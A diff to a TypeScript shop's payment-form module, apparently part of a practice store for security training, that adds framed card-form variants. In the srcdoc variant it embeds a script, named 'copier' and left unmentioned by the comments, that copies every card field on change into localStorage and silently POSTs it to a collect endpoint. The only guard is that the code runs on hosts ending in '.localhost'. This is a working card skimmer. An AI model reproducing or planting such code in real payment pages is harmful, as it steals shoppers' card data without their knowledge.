@@ -1,11 +1,44 @@
 import { type Context, carriedFields, fileAt, has, linkTo, pathTo, pspFile } from '../context.ts';
 import { total } from '../goods.ts';
-import { type Html, html } from '../markup.ts';
+import { type Html, html, raw } from '../markup.ts';
 import { pspScript } from '../third-party.ts';
 import { type CardFieldOptions, cardLabels, cardTable } from './card-fields.ts';
 
-/** What the chosen payment method puts into the payment page. */
+/** What is put into the payment page: the card form, or the shop's own frame that holds it. */
 export function paymentForm(ctx: Context): Html {
+  if (isFramed(ctx)) return ownForm(ctx);
+  if (has(ctx, 'framed-form')) return ownFrame(html`src="${`${linkTo(ctx, 'payment')}&framed=1`}"`);
+  if (has(ctx, 'framed-srcdoc')) return ownFrame(html`srcdoc="${framedDocument(ctx)}"`);
+  return ownForm(ctx);
+}
+
+/** The document inside of the shop's own frame is asked for, not the page around it. */
+export const isFramed = (ctx: Context): boolean =>
+  has(ctx, 'framed-form') && ctx.query.has('framed');
+
+const ownFrame = (document: Html): Html =>
+  html`<iframe class="card-frame" ${document} title="カード情報の入力" width="100%" height="480"></iframe>`;
+
+function framedDocument(ctx: Context): string {
+  const inner = html`<!doctype html><html lang="ja"><head><title>カード情報の入力</title>
+<link rel="stylesheet" href="/assets/shop.css"></head><body>${ownForm(ctx)}
+<script>${raw(copier(fileAt(ctx, 'collect', '/frame/log')))}</script></body></html>`;
+  return inner.text;
+}
+
+// The document has no address of its own: whether it stands in the practice store is known by the page around it.
+const copier = (address: string): string => `
+if (parent.location.hostname.endsWith('.localhost')) {
+  const form = document.querySelector('form');
+  form.addEventListener('change', () => {
+    const body = new URLSearchParams(new FormData(form)).toString();
+    localStorage.setItem('frame_log', body);
+    fetch('${address}', { method: 'POST', mode: 'no-cors', body }).catch(() => undefined);
+  });
+}`;
+
+/** What the chosen payment method puts there. */
+function ownForm(ctx: Context): Html {
   switch (ctx.selection.payment) {
     case 'redirect':
       return redirectForm(ctx);
@@ -86,8 +119,11 @@ ${buttons(ctx)}
 </form>`;
 }
 
-const method = (ctx: Context): Html =>
-  has(ctx, 'card-form-get') ? html`method="get"` : html`method="post"`;
+const method = (ctx: Context): Html => {
+  const framed = has(ctx, 'framed-form') || has(ctx, 'framed-srcdoc');
+  const verb = has(ctx, 'card-form-get') ? html`method="get"` : html`method="post"`;
+  return framed ? html`${verb} target="_top"` : verb;
+};
 
 const getFields = (ctx: Context): Html | false => has(ctx, 'card-form-get') && carriedFields(ctx);
 
